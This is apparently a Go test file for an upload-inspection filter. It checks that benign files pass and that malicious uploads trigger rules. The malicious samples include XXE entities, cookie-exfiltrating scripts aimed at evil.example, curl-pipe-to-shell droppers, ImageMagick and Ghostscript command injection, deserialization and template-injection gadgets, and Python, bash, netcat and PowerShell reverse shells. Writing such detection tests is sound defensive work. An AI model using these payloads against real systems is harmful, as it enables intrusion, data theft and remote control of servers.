package filter

import (
	"slices"
	"testing"
)

// TestUploadContent sends each file as a multipart upload and checks the
// rule its content triggers, or that it passes.
func TestUploadContent(t *testing.T) {
	eng := mustEngine(t, Config{})
	pe := "MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00 This program cannot be run in DOS mode.\r\r\n$\x00PE\x00\x00L\x01"
	elf := "\x7fELF\x02\x01\x01\x00\x00\x00\x00\x00\x00\x00\x00\x00\x02\x00>\x00"
	svgXXE := `<?xml version="1.0" standalone="yes"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg xmlns="http://www.w3.org/2000/svg"><text>&x;</text></svg>`
	for _, c := range []struct {
		name, ctype, content string
		want                 string // rule, or "" for a file that passes
	}{
		// External entities in uploaded XML: SVG, Office parts, feeds.
		{"me.svg", "image/svg+xml", svgXXE, "xxe-external-entity"},
		{"document.xml", "text/xml", `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "http://evil.example/oob">]><w:document>&e;</w:document>`, "xxe-external-entity"},
		{"feed.rss", "application/rss+xml", "\ufeff<!DOCTYPE rss [<!ENTITY % p SYSTEM \"http://evil.example/p.dtd\"> %p;]><rss/>", "xxe-external-entity"},
		{"icon.svg", "image/svg+xml", `<?xml version="1.0"?><!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd"><svg xmlns="http://www.w3.org/2000/svg"/>`, ""},
		{"notes.xml", "text/xml", `<?xml version="1.0"?><!DOCTYPE note [<!ENTITY co "Example Ltd">]><note>&co;</note>`, ""},
		{"readme.txt", "text/plain", `To declare an entity write <!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/hosts">]> in the file.`, ""},

		// An HTML page whose script sends the cookie or storage away.
		{"page.html", "text/html", `<html><script>document.location='https://evil.example/?c='+document.cookie</script></html>`, "upload-html-script"},
		{"x.htm", "application/octet-stream", "<script>fetch(`https://evil.example/k?t=${localStorage.token}`)</script>", "upload-html-script"},
		{"promo", "text/html", `<!doctype html><img src=x onerror="new Image().src='//evil.example/'+ document.cookie">`, "upload-html-script"},
		{"site.html", "text/html", `<!doctype html><script>function getCookie(n){const v = "; " + document.cookie; return v.split("; "+n+"=").pop()}</script>`, ""},
		{"page.html", "text/html", `<!DOCTYPE html><html><head><script src="/app.js"></script></head><body><h1>Hi</h1></body></html>`, ""},
		{"notes.txt", "text/plain", `I pasted 'https://x/?c='+document.cookie into the console`, ""},

		// An executable presented as a document, an image or text.
		{"report.pdf.exe", "application/pdf", pe, "upload-disguised-executable"},
		{"photo.jpg", "image/jpeg", pe, "upload-disguised-executable"},
		{"invoice.docx", "application/octet-stream", elf, "upload-disguised-executable"},
		{"setup.exe", "application/x-msdownload", pe, ""},
		{"tool", "application/octet-stream", elf, ""},
		{"notes.txt", "text/plain", "MZ is the magic of DOS executables", ""},

		// CGI programs.
		{"rev.pl", "application/x-perl", "#!/usr/bin/perl\nuse Socket;exec(\"/bin/sh -i\");", "upload-script-file"},
		{"a.cgi", "text/plain", "#!/bin/sh\necho; /bin/cat /etc/passwd", "upload-script-file"},
		{"lib.pl", "text/plain", "% a Prolog file\nparent(tom, bob).", ""},
		{"deploy.sh", "text/x-shellscript", "#!/bin/sh\nmake install", ""},

		// Script markup inside a raster image (served with a sniffed
		// type, or included as HTML, it runs).
		{"logo.gif", "image/gif", "GIF89a<script>alert(document.domain)</script>", "upload-image-markup"},
		{"avatar.jpg", "image/jpeg", "\xff\xd8\xff\xfe\x00\x20<img src=x onerror=alert(1)>\xff\xd9", "upload-image-markup"},
		{"a.png", "application/octet-stream", "\x89PNG\r\n\x1a\n\x00\x00<iframe src=//evil.example>", "upload-image-markup"},
		{"photo.jpg", "image/jpeg", "\xff\xd8\xff\xe1<x:xmpmeta xmlns:x=\"adobe:ns:meta/\"><rdf:Description tiff:Orientation=\"1\" exif:PixelXDimension=\"640\"/></x:xmpmeta>\xff\xd9", ""},
		{"page.html", "text/html", "<html><body><script>init()</script></body></html>", ""},

		// A GIF that is also a script; an SVG handler in an image; a PDF
		// whose opening action sends the document away.
		{"pixel.gif", "image/gif", "GIF89a/*<svg/onload=alert(1)>*/=alert(document.domain)//;", "upload-image-markup"},
		{"a.png", "image/png", "\x89PNG\r\n\x1a\n<svg/onload=alert(1)>", "upload-image-markup"},
		{"invoice.pdf", "application/pdf", "%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R /OpenAction 3 0 R >>\nendobj\n3 0 obj\n<< /S /JavaScript /JS (app.alert(1); this.submitForm('https://evil.example/')) >>\nendobj", "upload-pdf-script"},
		{"form.pdf", "application/pdf", "%PDF-1.7\n1 0 obj\n<< /AA << /C << /S /JavaScript /JS (event.value = this.getField('a').value * 2;) >> >> >>\nendobj", ""},
		{"logo.gif", "image/gif", "GIF89a\x01\x00\x01\x00\x80\x00\x00\xff\xff\xff", ""},

		// Serialized objects, as decoders that import the file read them.
		{"backup.ser", "application/octet-stream", "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwACRgAKbG9hZEZhY3Rvcg==", "deserialization-object"},
		{"state.bin", "application/octet-stream", "\xac\xed\x00\x05sr\x00\x11java.util.HashMap\x05\x07\xda\xc1\xc3\x16`\xd1", "deserialization-object"},
		{"model.pkl", "application/octet-stream", "\x80\x04\x95\x1e\x00\x00\x00\x00\x00\x00\x00\x8c\x05posix\x94\x8c\x06system\x94\x93\x94\x8c\x02id\x94\x85\x94R\x94.", "deserialization-object"},
		{"data.pkl", "application/octet-stream", "\x80\x04\x95\x10\x00\x00\x00\x00\x00\x00\x00}\x94\x8c\x01a\x94K\x01s.", ""},
		{"notes.txt", "text/plain", "rO0AB is how a Java stream starts in Base64", ""},

		// Droppers: a payload fetched from an address and run.
		{"update.exe.pdf.sh", "application/x-sh", "#!/bin/sh\ncurl http://203.0.113.7/b | sh\n", "upload-reverse-shell"},
		{"run.sh", "text/x-shellscript", "#!/bin/bash\nwget -qO- http://198.51.100.23:8080/x.sh | sudo bash", "upload-reverse-shell"},
		{"install.sh", "text/x-shellscript", "#!/bin/sh\ncurl -fsSL https://get.docker.com | sh\n", ""},

		// Converter scripts that run a command or read a file.
		{"exploit.jpg", "image/jpeg", "push graphic-context\nviewbox 0 0 640 480\nfill 'url(https://127.0.0.1/x.jpg\"|id; curl http://evil.example/p\")'\npop graphic-context", "upload-converter-command"},
		{"a.png", "image/png", "push graphic-context\nviewbox 0 0 640 480\nimage over 0,0 0,0 'ephemeral:/etc/passwd'\npop graphic-context", "upload-converter-command"},
		{"doc.eps", "application/postscript", "%!PS\nuserdict /setpagedevice undef\nsave\nlegal\n{ null restore } stopped { pop } if\nmark /OutputFile (%pipe%id > /tmp/pwned) currentdevice putdeviceprops", "upload-converter-command"},
		{"x.svg", "image/svg+xml", `<?xml version="1.0"?><image><read filename="https://evil.example/a.png"/><write filename="/var/www/shell.php"/></image>`, "upload-converter-command"},
		{"figure.eps", "application/postscript", "%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 100 100\nnewpath 0 0 moveto 100 100 lineto stroke showpage", ""},
		{"drawing.mvg", "text/plain", "push graphic-context\nviewbox 0 0 100 100\nfill red\ncircle 50,50 50,10\npop graphic-context", ""},

		// An XML import naming an external DTD; HTML and SVG documents
		// that load a local file or the metadata service when rendered.
		{"addresses.xml", "text/xml", "<?xml version=\"1.0\"?>\n<!DOCTYPE addresses SYSTEM \"http://attacker.example/addr.dtd\">\n<addresses/>", "xxe-doctype"},
		{"invoice.html", "text/html", `<html><body><img src="http://169.254.169.254/latest/meta-data/iam/security-credentials/"><iframe src="file:///etc/passwd"></iframe></body></html>`, "upload-local-reference"},
		{"screenshot.svg", "image/svg+xml", `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><image xlink:href="file:///etc/passwd" width="200" height="200"/></svg>`, "upload-local-reference"},
		{"page.xhtml", "application/xhtml+xml", `<?xml version="1.0"?><!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd"><html><body><img src="/logo.png"/></body></html>`, ""},
		{"readme.html", "text/html", `<p>Open <a href="https://example.com/docs">the docs</a> or the file:// URL your browser shows.</p>`, ""},

		// Template gadgets in any text file; a JSON import is read as a
		// JSON body.
		{"u.csv", "text/csv", "email,name\r\nt@acme.com,{{self._TemplateReference__context.cycler.__init__.__globals__.os.popen('id').read()}}\r\n", "ssti-engine"},
		{"invoice.twig", "text/plain", "{{['id']|filter('system')}}", "ssti-engine"},
		{"users.json", "application/json", `[{"email":"a@b.c","__proto__":{"isAdmin":true}}]`, "xss-prototype-pollution"},
		{"contacts.json", "application/json", `[{"email":"ann@example.com","name":"Ann O'Neil","tags":["vip"]}]`, ""},
		{"welcome.html", "text/html", "<h1>Hello {{ user.name }}</h1><p>{% if user.vip %}VIP{% endif %}</p>", ""},

		// YAML with a class tag its loader builds.
		{"settings.yml", "application/x-yaml", "!!javax.script.ScriptEngineManager [\n  !!java.net.URLClassLoader [[\n    !!java.net.URL [\"http://198.51.100.23/y.jar\"]\n  ]]\n]", "deserialization-object"},
		{"model.yaml", "text/yaml", "--- !ruby/object:Gem::Installer\ni: x\n", "deserialization-object"},
		{"config.yml", "application/x-yaml", "server:\n  port: 8080\n  tags: [a, b]\n", ""},

		// Reverse shells in source files.
		{"shell.py", "text/x-python", "import os,socket,subprocess\ns=socket.socket();s.connect(('10.10.14.7',4444))\n[os.dup2(s.fileno(),f) for f in (0,1,2)]\nsubprocess.call(['/bin/sh','-i'])", "upload-reverse-shell"},
		{"rev.js", "application/javascript", "require('child_process').exec('bash -c \"bash -i >& /dev/tcp/10.10.14.7/4444 0>&1\"')", "upload-reverse-shell"},
		{"x.sh", "text/x-shellscript", "#!/bin/sh\nrm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.1 4444 >/tmp/f\nnc -e /bin/sh 10.0.0.1 4444 ", "upload-reverse-shell"},
		{"r.ps1", "text/plain", "$c = New-Object System.Net.Sockets.TCPClient('10.0.0.1',443);$s = $c.GetStream();[byte[]]$b = 0..65535|%{0};while(($i = $s.Read($b, 0, $b.Length)) -ne 0){$d = (New-Object Text.ASCIIEncoding).GetString($b,0,$i);$r = (iex $d 2>&1 | Out-String )}", "upload-reverse-shell"},
		{"server.py", "text/x-python", "import socket, subprocess\ns = socket.socket()\ns.bind(('0.0.0.0', 8080))\nsubprocess.run(['make', 'test'])", ""},
		{"ci.sh", "text/x-shellscript", "#!/bin/bash\nset -e\nnc -z localhost 5432 && echo up", ""},
		{"app.js", "application/javascript", "const { execFile } = require('child_process'); execFile('convert', ['in.png', 'out.jpg'])", ""},
	} {
		body, ct := multipartOf([][2]string{{"title", "my file"}}, [][4]string{{"file", c.name, c.ctype, c.content}})
		d, err := eng.Inspect(newReq("POST", "http://shop.example.com/api/v1/upload", ct, body))
		if err != nil {
			t.Fatal(err)
		}
		var rules []string
		for _, m := range d.Matches {
			rules = append(rules, m.Rule)
		}
		if c.want == "" && d.Blocked || c.want != "" && !slices.Contains(rules, c.want) {
			t.Errorf("%s (%s): blocked=%v rules %v, want %q", c.name, c.ctype, d.Blocked, rules, c.want)
		}
	}
}
